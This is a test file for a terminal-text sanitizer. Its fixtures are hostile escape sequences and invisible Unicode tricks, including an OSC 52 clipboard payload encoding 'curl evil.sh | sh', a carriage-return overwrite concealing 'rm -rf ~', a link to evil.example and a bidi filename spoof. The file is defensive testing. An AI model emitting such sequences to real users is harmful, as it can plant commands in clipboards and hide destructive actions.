import { describe, expect, it } from 'vitest';
import { sanitizeTerminalLine, sanitizeTerminalText } from './terminal-text.js';

// Anything a terminal could act on or hide: C0 except tab/newline, DEL, C1, bidi controls, marks,
// zero-width and invisible characters (ZWNJ/ZWJ and variation selectors excepted), fillers,
// line/paragraph separators, interlinear annotations, tag characters, lone surrogates.
const ACTIONABLE_RANGES: readonly [number, number][] = [
  [0x00, 0x08],
  [0x0b, 0x1f],
  [0x7f, 0x9f],
  [0xad, 0xad],
  [0x34f, 0x34f],
  [0x61c, 0x61c],
  [0x115f, 0x1160],
  [0x180e, 0x180e],
  [0x200b, 0x200b],
  [0x200e, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x206f],
  [0x3164, 0x3164],
  [0xd800, 0xdfff],
  [0xfeff, 0xfeff],
  [0xffa0, 0xffa0],
  [0xfff0, 0xfffb],
  [0xe0000, 0xe00ff],
];

function actionable(char: string): boolean {
  const code = char.codePointAt(0) ?? 0;
  return ACTIONABLE_RANGES.some(([low, high]) => code >= low && code <= high);
}

function hasActionable(text: string): boolean {
  for (const char of text) if (actionable(char)) return true;
  return false;
}

const HOSTILE: readonly [string, string][] = [
  ['clear screen', '\x1b[2J\x1b[3J\x1b[H'],
  ['OSC 52 clipboard (BEL)', '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07'],
  ['OSC 52 clipboard (ST)', '\x1b]52;c;Y3VybA==\x1b\\'],
  ['OSC 8 link', '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\'],
  ['conceal', 'visible\x1b[8mhidden capabilities\x1b[28m'],
  ['cursor up and erase line', 'ok\x1b[1A\x1b[2Kforged line'],
  ['C1 CSI', '\x9b2J'],
  ['C1 OSC', '\x9d52;c;AAAA\x9c'],
  ['DCS', '\x1bP+q544e\x1b\\'],
  ['title set', '\x1b]0;pwned\x07'],
  ['carriage return overwrite', 'rm -rf ~\rls -la   '],
  ['backspace overwrite', 'evil\b\b\b\bgood'],
  ['bidi override', 'file\u202etxt.exe'],
  ['bidi isolates', '\u2066\u2067\u2068abc\u2069'],
  ['embeddings and marks', '\u202a\u202b\u202c\u202d\u200e\u200f\u061c'],
  ['zero width space and word joiner', 'ad\u200bmin\u2060'],
  ['BOM and soft hyphen', '\ufeffsoft\u00adhyphen'],
  ['tag characters', 'x\u{e0041}\u{e007f}'],
  ['hangul fillers (invisible names)', '\u3164\u115f\uffa0'],
  ['unassigned invisible operator slot', 'a\u2065b'],
  ['mongolian vowel separator', 'ad\u180emin'],
  ['line separator', 'a\u2028b\u2029c'],
  ['lone surrogates', 'a\ud800b\udfffc'],
  ['NUL and DEL', 'a\u0000b\u007f'],
  ['vertical tab and form feed', 'a\u000bb\u000c'],
];

describe('sanitizeTerminalText', () => {
  it.each(HOSTILE)('%s leaves nothing a terminal acts on', (_name, input) => {
    const out = sanitizeTerminalText(input);
    expect(hasActionable(out)).toBe(false);
    expect(out).not.toContain('\x1b');
  });

  it.each([
    ['\x1b[2J', String.raw`\x1b[2J`],
    ['\x1b]52;c;AAAA\x07', String.raw`\x1b]52;c;AAAA\x07`],
    ['\x9b31m', String.raw`\x9b31m`],
    ['file\u202etxt.exe', String.raw`file\u202etxt.exe`],
    ['x\u{e0041}', String.raw`x\u{e0041}`],
    ['a\rb', String.raw`a\rb`],
    ['a\u0000', String.raw`a\x00`],
    ['ad\u180emin', String.raw`ad\u180emin`],
  ])('shows %j as %j', (input, expected) => {
    expect(sanitizeTerminalText(input)).toBe(expected);
  });

  it('keeps newlines and tabs, folds CRLF and returns clean text unchanged', () => {
    expect(sanitizeTerminalText('a\tb\r\nc\nd')).toBe('a\tb\nc\nd');
    const clean = 'plain text, ünïcödé, 中文, emoji 👩‍👩‍👧 ❤️ and ZWNJ می‌خواهم';
    expect(sanitizeTerminalText(clean)).toBe(clean);
  });

  it('keeps at most six combining marks on a letter, so stacked marks cannot paint over lines', () => {
    const zalgo = `Z${'\u0336\u0301'.repeat(150)}ok`;
    expect(sanitizeTerminalText(zalgo)).toBe(`Z${'\u0336\u0301'.repeat(3)}ok`);
    expect(sanitizeTerminalLine(`a${'\u0300'.repeat(7)}\nb`)).toBe(`a${'\u0300'.repeat(6)}\\nb`);
    // Real text is kept as it is: Vietnamese, Hebrew with points and cantillation, Devanagari.
    for (const text of ['Tiếng Việt', 'בְּרֵאשִׁ֖ית', 'हिन्दी']) {
      expect(sanitizeTerminalText(text)).toBe(text);
    }
  });

  it('keeps the Mongolian variation selectors, which only pick a glyph', () => {
    const selectors = 'ᠠ\u180bᠠ\u180cᠠ\u180dᠠ\u180f';
    expect(sanitizeTerminalText(selectors)).toBe(selectors);
  });

  it('keeps every visible character of a forged escape readable', () => {
    expect(sanitizeTerminalText('\x1b[8mcapabilities: none\x1b[0m')).toBe(
      String.raw`\x1b[8mcapabilities: none\x1b[0m`,
    );
  });

  it('is stable when applied twice to hostile input', () => {
    for (const [, input] of HOSTILE) {
      const once = sanitizeTerminalText(input);
      expect(sanitizeTerminalText(once)).toBe(once);
    }
  });

  it('covers every code point a terminal could act on', () => {
    const raw: string[] = [];
    for (let code = 0; code <= 0x10ffff; code++) {
      if (code >= 0xd800 && code <= 0xdfff) continue;
      const char = String.fromCodePoint(code);
      if (sanitizeTerminalLine(char) === char && actionable(char)) raw.push(code.toString(16));
    }
    expect(raw).toEqual([]);
    // 1.1 million code points: about a second alone, far more on a loaded machine.
  }, 60_000);
});

describe('sanitizeTerminalLine', () => {
  it('escapes newlines so a field cannot start a line of its own', () => {
    expect(sanitizeTerminalLine('name\ncapabilities: none\r\nx')).toBe(
      String.raw`name\ncapabilities: none\r\nx`,
    );
    expect(sanitizeTerminalLine('a\u2028b')).toBe(String.raw`a\u2028b`);
  });

  it.each(HOSTILE)('%s stays on one line', (_name, input) => {
    const out = sanitizeTerminalLine(input);
    expect(hasActionable(out)).toBe(false);
    expect(out).not.toContain('\n');
  });

  it('makes a tab a space, and keeps clean text', () => {
    expect(sanitizeTerminalLine('a\tb')).toBe('a b');
    expect(sanitizeTerminalLine('@scope/pkg 1.2.3')).toBe('@scope/pkg 1.2.3');
  });
});
